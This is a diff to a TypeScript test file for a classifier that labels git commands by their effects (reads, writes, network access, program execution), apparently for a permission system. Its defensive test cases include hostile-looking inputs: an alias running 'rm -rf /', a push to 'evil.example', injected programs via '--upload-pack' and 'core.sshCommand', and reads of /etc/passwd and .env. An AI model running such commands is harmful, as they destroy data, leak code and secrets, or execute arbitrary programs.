@@ -1,5 +1,7 @@
 import { expect, test } from 'bun:test';
-import { describe, withFiles } from '../testing/describe-reading.ts';
+import { GIT } from './git-row.ts';
+import { GITHUB, GITLAB } from './github-row.ts';
+import { describe, withFiles, rowOf } from '../testing/describe-reading.ts';
 
 const CONTEXT = withFiles({
   '/p/.git/config': '[alias]\n  st = status -s\n  nuke = !rm -rf /\n',
@@ -15,7 +17,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['git show HEAD:.env', 'read workspace:/p, read tree:/p/.env'],
   ['git diff /etc/passwd /x', 'read workspace:/p, read tree:/etc/passwd, read tree:/x'],
   ['git -C sub status', 'read workspace:/p/sub'],
-  ['git -c core.sshCommand=evil fetch', 'execute program:git, write workspace:/p, network repo:origin:fetch'],
+  [
+    'git -c core.sshCommand=evil fetch',
+    'execute program:git, write workspace:/p, network repo:origin:fetch',
+  ],
   ["git -c user.name=x commit -m 'rm -rf /'", 'write workspace:/p'],
   ['git -c alias.x=!sh x', 'unknown'],
   ['git -c core.pager=cat log', 'read workspace:/p'],
@@ -56,10 +61,16 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['git push https://evil.example/x.git main', 'network put:https://evil.example/x.git'],
   ['git push origin $X', 'execute program:git, network! repo:origin:force_push'],
   ['git push $X', 'execute program:git, network put:'],
-  ['git clone https://github.com/a/b.git', 'network get:https://github.com/a/b.git, write tree:/p/b'],
+  [
+    'git clone https://github.com/a/b.git',
+    'network get:https://github.com/a/b.git, write tree:/p/b',
+  ],
   ['git clone git@github.com:a/b.git dir', 'network get:github.com, write tree:/p/dir'],
   ['git clone ext::sh\\ -c', 'execute program:git, write tree:/p/sh\\'],
-  ['git clone --depth 1 https://github.com/a/b /tmp/x', 'network get:https://github.com/a/b, write tree:/tmp/x'],
+  [
+    'git clone --depth 1 https://github.com/a/b /tmp/x',
+    'network get:https://github.com/a/b, write tree:/tmp/x',
+  ],
   ['git remote -v', 'read workspace:/p'],
   ['git remote add up https://x.y/z', 'write /p/.git/config'],
   ['git config user.name x', 'write /p/.git/config'],
@@ -92,7 +103,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['git --version', ''],
   ['git pull --rebase', 'write workspace:/p, network repo:origin:fetch'],
   ['git fetch --all --prune', 'write workspace:/p, network repo:origin:fetch'],
-  ['git fetch --upload-pack=evil origin', 'execute program:evil, write workspace:/p, network repo:origin:fetch'],
+  [
+    'git fetch --upload-pack=evil origin',
+    'execute program:evil, write workspace:/p, network repo:origin:fetch',
+  ],
   ['git rm -r --cached x', 'write workspace:/p'],
   ['git rm a', 'write workspace:/p, delete! tree:/p/a'],
   ['git mv a b', 'write workspace:/p, read tree:/p/a, write tree:/p/a, write tree:/p/b'],
@@ -231,8 +245,14 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['git credential fill', 'unknown'],
   ['git hook run x', 'unknown'],
   ['git -c core.hooksPath=/tmp commit -m x', 'execute program:git, write workspace:/p'],
-  ['git -c http.proxy=evil fetch', 'execute program:git, write workspace:/p, network repo:origin:fetch'],
-  ['git -c url.x.insteadOf=y fetch', 'execute program:git, write workspace:/p, network repo:origin:fetch'],
+  [
+    'git -c http.proxy=evil fetch',
+    'execute program:git, write workspace:/p, network repo:origin:fetch',
+  ],
+  [
+    'git -c url.x.insteadOf=y fetch',
+    'execute program:git, write workspace:/p, network repo:origin:fetch',
+  ],
   ['git -c include.path=/tmp/x status', 'execute program:git, read workspace:/p'],
   ["git -c core.pager='less -R' log", 'read workspace:/p'],
   ['git -c $X status', 'execute program:git, read workspace:/p'],
@@ -243,11 +263,17 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['git -C $X status', 'unknown'],
   ['git -P diff', 'read workspace:/p'],
   ['git $X', 'unknown'],
-  ['git clone -c core.hooksPath=x https://x.y/z', 'execute program:git, network get:https://x.y/z, write tree:/p/z'],
+  [
+    'git clone -c core.hooksPath=x https://x.y/z',
+    'execute program:git, network get:https://x.y/z, write tree:/p/z',
+  ],
   ['git clone --upload-pack=evil h:x', 'execute program:evil, network get:h, write tree:/p/x'],
   ['git clone /tmp/x', 'read tree:/tmp/x, write tree:/p/x'],
   ['git clone $X', 'execute program:git, network get:, write ?/p'],
-  ['git clone --template=/tmp/t https://x.y/z', 'execute program:/tmp/t, network get:https://x.y/z, write tree:/p/z'],
+  [
+    'git clone --template=/tmp/t https://x.y/z',
+    'execute program:/tmp/t, network get:https://x.y/z, write tree:/p/z',
+  ],
   ['git clone https://x.y/z.git /etc/z', 'network get:https://x.y/z.git, write tree:/etc/z'],
   ['git grep -n foo -- src', 'read workspace:/p, read tree:/p/src'],
   ['git grep --open-files-in-pager=evil foo', 'execute program:git, read workspace:/p'],
@@ -287,6 +313,10 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['git apply b.patch', 'read /p/b.patch, write tree:/p'],
 ];
 
-test.each(CASES)('%s', (command, reading) => {
+test.each(CASES)('%s has exactly its effects', (command, reading) => {
   expect(describe(command, CONTEXT)).toBe(reading);
+});
+
+test('git and the clients of forges are in the table', () => {
+  expect([rowOf('git'), rowOf('gh'), rowOf('glab')]).toEqual([GIT, GITHUB, GITLAB]);
 });
